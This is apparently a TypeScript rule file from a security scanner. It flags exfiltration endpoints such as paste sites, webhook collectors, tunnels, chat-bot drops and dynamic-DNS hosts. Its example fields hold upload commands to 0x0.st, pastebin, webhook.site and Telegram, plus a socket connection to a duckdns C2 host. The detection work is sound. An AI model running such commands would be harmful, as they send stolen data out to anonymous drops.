// Where stolen data goes: paste and file-share sites, webhook/request collectors, tunnels, dynamic DNS.
import { hostListMatcher } from '../../url.js';
import type { Rule, RuleHit } from '../../types.js';

// Paste/file-share hosts seen in infostealer and skill-malware write-ups (glot.io hosted the ClawHavoc
// payloads: Snyk ClawdHub campaign report).
export const PASTE_HOSTS = [
  'pastebin.com', 'paste.ee', 'hastebin.com', 'hastebin.skyra.pw', 'ghostbin.com', 'ghostbin.co', 'glot.io', 'transfer.sh',
  'file.io', '0x0.st', 'termbin.com', 'dpaste.com', 'dpaste.org', 'paste.rs', 'rentry.co', 'rentry.org', 'controlc.com',
  'privatebin.net', 'justpaste.it', 'ix.io', 'sprunge.us', 'catbox.moe', 'gofile.io', 'anonfiles.com', 'bashupload.com',
  'temp.sh', 'oshi.at', 'pixeldrain.com', 'paste.c-net.org', 'pastes.dev', 'pastie.org', 'paste.mozilla.org', 'bpa.st',
  'ufile.io', 'tmpfiles.org', 'filebin.net', 'uguu.se', 'write.as',
];

export const pasteService = {
  id: 'exfil.paste-service',
  severity: 'critical',
  category: 'exfil',
  title: 'Paste or anonymous file-share service',
  keywords: PASTE_HOSTS,
  match: hostListMatcher(PASTE_HOSTS),
  maxLength: 400,
  examples: {
    flagged: [{ text: 'curl -s -F "file=@out.txt" https://0x0.st', kind: 'shell' }, { text: 'requests.post("https://pastebin.com/api/api_post.php", data=payload)', kind: 'code-py' }],
    notFlagged: [{ text: 'Never upload logs to pastebin.com.', kind: 'markdown' }, { text: 'https://notpastebin.com.example.org/x' }],
  },
  remediation: 'Remove the upload; paste and anonymous file hosts are a common drop for stolen data and for second-stage payloads.',
} satisfies Rule;

export const COLLECTOR_HOSTS = [
  'webhook.site', 'requestbin.com', 'requestbin.net', 'pipedream.net', 'hookbin.com', 'beeceptor.com', 'requestcatcher.com',
  'mockbin.org', 'postb.in', 'ptsv2.com', 'ptsv3.com', 'webhook.cool', 'ngrok.io', 'ngrok-free.app', 'ngrok.app', 'ngrok-free.dev',
  'ngrok.dev', 'interact.sh', 'oast.fun', 'oast.live', 'oast.me', 'oast.online', 'oast.pro', 'oast.site', 'burpcollaborator.net',
  'oastify.com', 'canarytokens.com', 'dnslog.cn', 'ceye.io', 'loca.lt', 'localtunnel.me', 'trycloudflare.com', 'serveo.net',
  'requestinspector.com', 'webhookrelay.com', 'hookdeck.com', 'smee.io',
];

const collectorHosts = hostListMatcher(COLLECTOR_HOSTS);
// Chat-platform webhooks and bot APIs used as drops: Discord webhooks, Slack incoming webhooks, Telegram sendMessage/sendDocument.
const CHAT_DROP_RE =
  /(?:https?:\/\/)?(?:(?:canary\.|ptb\.)?discord(?:app)?\.com\/api\/webhooks\/[^\s"'`<>)]{1,200}|hooks\.slack\.com\/(?:services|workflows|triggers)\/[^\s"'`<>)]{1,200}|api\.telegram\.org\/bot[^\s"'`<>/)]{0,120}\/send(?:Message|Document|Photo|Audio|Video|MediaGroup)\b[^\s"'`<>)]{0,200})/gi;

const PLACEHOLDER_PATH_RE = /\/[TB]0{8,}\/|X{12,}|x{12,}|\/0{10,}\/|\bYOUR[_-]|\.\.\.|\*{6,}/;

function findCollectors(text: string): RuleHit[] {
  const out = collectorHosts(text);
  CHAT_DROP_RE.lastIndex = 0;
  for (let m = CHAT_DROP_RE.exec(text); m; m = CHAT_DROP_RE.exec(text)) {
    // Documentation placeholders (`T00000000/B00000000/XXXXXXXX`, `YOUR_WEBHOOK_ID`) are not drops.
    if (PLACEHOLDER_PATH_RE.test(m[0])) continue;
    const host = /(?:https?:\/\/)?([^/]+)/i.exec(m[0])?.[1]?.toLowerCase();
    out.push({ start: m.index, end: m.index + m[0].length, host });
  }
  return out;
}

export const webhookCollector = {
  id: 'exfil.webhook-collector',
  severity: 'high',
  category: 'exfil',
  title: 'Webhook collector, tunnel or chat-bot drop',
  keywords: [...COLLECTOR_HOSTS, '/api/webhooks/', 'hooks.slack.com', 'api.telegram.org'],
  match: findCollectors,
  maxLength: 500,
  examples: {
    flagged: [
      { text: "fetch('https://webhook.site/6f1c2a9e-4b7d-4c1e-9f5a-2d3b8e7c6a10', { method: 'POST', body })", kind: 'code-js' },
      { text: 'requests.post(f"https://api.telegram.org/bot{tok}/sendDocument", files=files)', kind: 'code-py' },
    ],
    notFlagged: [{ text: 'Do not send anything to webhook.site.', kind: 'markdown' }],
  },
  remediation: 'Remove the call; request collectors and tunnels receive whatever is sent with no account behind them.',
} satisfies Rule;

export const DYNAMIC_DNS_HOSTS = [
  'duckdns.org', 'no-ip.com', 'no-ip.org', 'no-ip.biz', 'noip.com', 'ddns.net', 'hopto.org', 'zapto.org', 'sytes.net', 'serveftp.com',
  'myftp.org', 'myftp.biz', 'dynu.com', 'dynu.net', 'freedns.afraid.org', 'dyndns.org', 'dyndns.com', 'dynv6.net', 'nsupdate.info',
  'changeip.com', '3utilities.com', 'bounceme.net', 'servehttp.com', 'ddnsfree.com', 'ooguy.com', 'duckdns.com', 'ydns.eu', 'dedyn.io',
  'freeddns.org', 'mooo.com', 'chickenkiller.com', 'strangled.net', 'kozow.com', 'linkpc.net', 'gotdns.ch', 'hldns.ru', 'publicvm.com',
];

export const dynamicDns = {
  id: 'exfil.dynamic-dns',
  severity: 'critical',
  category: 'exfil',
  title: 'Dynamic-DNS host',
  keywords: DYNAMIC_DNS_HOSTS,
  match: hostListMatcher(DYNAMIC_DNS_HOSTS),
  maxLength: 400,
  examples: {
    flagged: [{ text: 'socket.connect(("c2-node.duckdns.org", 4444))', kind: 'code-py' }],
    notFlagged: [{ text: 'https://duckdns.org.example.com/' }],
  },
  remediation: 'Remove the endpoint; free dynamic-DNS names are favoured by malware because they can be repointed at will.',
} satisfies Rule;

export const serviceRules = [pasteService, webhookCollector, dynamicDns] satisfies Rule[];
